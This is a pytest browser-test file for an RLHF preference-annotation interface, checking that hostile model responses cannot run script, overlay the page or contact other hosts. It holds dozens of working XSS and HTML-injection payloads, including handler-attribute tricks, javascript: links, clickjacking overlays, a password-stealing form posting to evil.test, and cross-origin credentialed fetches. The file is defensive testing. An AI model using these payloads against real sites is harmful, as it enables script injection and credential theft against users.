"""Hostile responses in a real browser: nothing runs, nothing is laid over the page, nothing calls home."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from sqlalchemy import select

from preference_ui.db import Store
from preference_ui.models import Judgment
from preference_ui.projects import ItemSpec, ResponseSpec, add_items, get_project
from rlhf.data.schema import Message
from tests.ui.app.ui_helpers import Server, Visit, free_port, seed

EVIL = "http://evil.test:9"
OWNED = "document.title='OWNED';window.owned=1"

VECTORS = [
    vector.replace("RUN", OWNED).replace("EVIL", EVIL)
    for vector in (
        '<noscript><p title="</noscript><img src=x onerror=RUN>">',
        "<details open ontoggle=RUN>x</details>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
        "<marquee onstart=RUN>x</marquee>",
        "<input autofocus onfocus=RUN>",
        "<textarea autofocus onfocus=RUN>x</textarea>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN>",
        "<svg><animate onbegin=RUN attributeName=x>",
        "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
        "<object data='javascript:RUN'></object>",
        "<embed src='EVIL/e'>",
        "<meta http-equiv=refresh content='0;url=EVIL/m'>",
        "<link rel=stylesheet href='EVIL/l.css'>",
        "<template shadowrootmode=open><script>RUN</script></template>",
        "<dialog open style=inset:0>x</dialog>",
        "<button formaction='javascript:RUN'>x</button>",
        "<xss contenteditable autofocus onfocus=RUN>x</xss>",
        "<a href='jav&#x09;ascript:RUN'>x</a>",
        "<a href='java\nscript:RUN'>x</a>",
        "[x](vbscript:RUN)",
        "[x](JaVaScRiPt:RUN)",
        "[x](  javascript:RUN)",
        "[x](<javascript:RUN>)",
        "[x](\u0001javascript:RUN)",
        "[x](//evil.test)",
        "[x](/api/undo)",
        "[r]\n\n[r]: javascript:RUN",
        "![x][p]\n\n[p]: EVIL/r.png",
        "<img srcset='EVIL/s.png 1x'>",
        "<picture><source srcset='EVIL/t.png'><img></picture>",
        "<body background='EVIL/b.png'>",
        "<p style='background:url(EVIL/u.png)'>x",
        "</textarea></script></title><script>RUN</script>",
        "]]><script>RUN</script>",
        "<!--><img src=x onerror=RUN>-->",
        "<iframe src='javascript:RUN'></iframe>",
        "<base target=_top>",
        "<form id=rlhf><input name=attributes></form>",
        "<p id=__proto__><p id=querySelector>",
        "<slot name=x onslotchange=RUN></slot>",
        "<script src='EVIL/j.js'></script>",
    )
]

ATTACKS = (
    f"${{{OWNED}}} {{{{constructor.constructor('{OWNED}')()}}}} `${{{OWNED}}}` \\underline \\u{{1F600}} <%= 7*7 %>",
    f'<script>{OWNED}</script><img src=x onerror="{OWNED}"><svg onload="{OWNED}"><body onload={OWNED}>'
    f"<iframe srcdoc='<script>parent.{OWNED}</script>'></iframe><style>@import '{EVIL}/s.css';</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff" onclick="window.owned=1">Click to go on</div>\n\n'
    f'<form action="{EVIL}/steal"><input name=password><button id="submit" class="submit">Submit</button></form>'
    '<a id="rlhf-side-title" class="submit">x</a><base href="//evil.test">',
    f"![pixel]({EVIL}/p.png) <img src={EVIL}/q.png> [x]({EVIL}/ok) [js](javascript:{OWNED}) "
    f"[data](data:text/html,<script>{OWNED}</script>) <javascript:{OWNED}> [own](/logout) "
    f"![d](data:image/svg+xml,<svg>)",
    f"$\\href{{javascript:{OWNED}}}{{x}}$ $\\includegraphics{{{EVIL}/k.png}}$ $\\htmlClass{{submit}}{{x}}$ "
    "$$\\def\\a{\\a\\a}\\a$$ $\\rule{9999em}{9999em}$ $<img src=x onerror=alert(1)>$",
    "safe‮txt.exe​ h﻿idden ⁦isolate⁩ \x1b[31mred\x07 end",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|\n\n# <b id=submit>x</b>\n\n"
    '```html"><script>alert(1)</script>\n<x>\n```\n\n'
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "\n\n".join(VECTORS),
    "A" * 3000 + " " + "[" * 400 + "x" + "]" * 400 + " " + "> " * 300,
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Store]]:
    """A project of its own whose only item consists of attacks, prompt included."""
    path = tmp_path_factory.mktemp("hostile") / "p.sqlite"
    store = seed(path, num_items=0)
    prompt = (Message("user", "\n\n".join(ATTACKS[:4])),)
    add_items(store, get_project(store, "helpline").id, [ItemSpec(prompt, tuple(map(ResponseSpec, ATTACKS)))])
    server = Server(path, free_port())
    server.start()
    yield server, store
    server.kill()


@pytest.mark.parametrize("plain", [False, True])
def test_hostile_responses_do_nothing(hostile: tuple[Server, Store], visit: Callable[..., Visit], plain: bool) -> None:
    someone = visit(where=hostile)
    someone.context.add_init_script(f"localStorage.setItem('rlhf:plain', '{str(plain).lower()}')")
    someone.open()
    page = someone.page
    assert len(VECTORS) >= 40
    assert len(someone.tiers()) == len(ATTACKS)
    page.wait_for_timeout(1000)
    assert page.title() != "OWNED"
    assert page.evaluate("window.owned") is None
    foreign = [u for u in someone.requests if not u.startswith((someone.server.url, "data:", "blob:"))]
    assert foreign == []
    live = page.eval_on_selector_all(
        ".untrusted",
        """boxes => boxes.flatMap(box => [...box.querySelectorAll('*')].filter(n =>
            n.id || n.matches('script,img,svg:not(.katex svg),iframe,object,form,input,button,style,link,base,video')
            || [...n.attributes].some(a => a.name.startsWith('on'))
            || (getComputedStyle(n).position === 'fixed')
            || (n.matches('a') && !/^(https?:|mailto:)/.test(n.getAttribute('href') || ''))
        ).map(n => n.outerHTML.slice(0, 200)))""",
    )
    assert live == []
    assert page.locator(".submit").count() == 1
    assert page.locator(".invisible").count() >= 6
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    # Nothing covers what an annotator clicks on, and the page still works.
    page.click(".submit", trial=True)
    page.keyboard.press("2")
    page.keyboard.press("ArrowUp")
    lease = someone.lease()
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".nothing")
    with hostile[1].read() as session:
        assert session.scalar(select(Judgment.id).where(Judgment.lease_id == lease)) is not None
    assert someone.errors == []


def test_another_site_reads_and_writes_nothing(site: tuple[Server, Store], visit: Callable[..., Visit]) -> None:
    """A page of another origin in the same browser, with the session cookie in its jar."""
    server, _ = site
    someone = visit()
    other = server.url.replace("127.0.0.1", "localhost.evil.test")
    page = someone.page
    someone.context.route(
        f"{other}/**", lambda route: route.fulfill(body="<title>evil</title>", content_type="text/html")
    )
    page.goto(other + "/")
    outcome = page.evaluate(
        """async url => {
            const post = kind => ({
                method: 'POST', credentials: 'include', headers: {'Content-Type': kind}, body: '{}'});
            const tries = [
                [url + '/api/boot', {credentials: 'include'}],
                [url + '/gradio_api/token', {credentials: 'include'}],
                [url + '/en/config', {credentials: 'include'}],
                [url + '/api/task', post('text/plain')],
                [url + '/api/task', post('application/json')],
            ];
            const seen = [];
            for (const [address, options] of tries) {
                try { const r = await fetch(address, options); seen.push(await r.text()); } catch { seen.push(null); }
            }
            return seen;
        }""",
        server.url,
    )
    assert outcome == [None] * 5
    frame = page.evaluate(
        """url => new Promise(done => {
            const f = document.createElement('iframe'); f.src = url + '/login';
            f.onload = () => { try { done(f.contentDocument?.body.innerText) } catch { done(null) } };
            document.body.append(f); setTimeout(() => done(null), 3000); })""",
        server.url,
    )
    assert not frame
